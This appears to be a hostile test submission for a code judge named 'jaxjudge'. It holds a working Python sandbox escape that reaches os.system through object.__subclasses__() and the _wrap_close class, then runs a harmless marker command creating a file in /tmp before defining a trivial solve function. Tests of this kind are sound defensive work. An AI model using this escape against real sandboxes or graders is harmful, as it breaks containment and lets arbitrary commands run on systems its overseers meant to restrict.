# attack: escape: reaching os.system
# expect: accepted
# effect: files
# why: finds os.system through object.__subclasses__()
for cls in object.__subclasses__():
    if cls.__name__ == '_wrap_close':
        cls.__init__.__globals__['system']('touch /tmp/jaxjudge-hostile-subclasses')
        break
def solve(x, scale):
    return x * scale
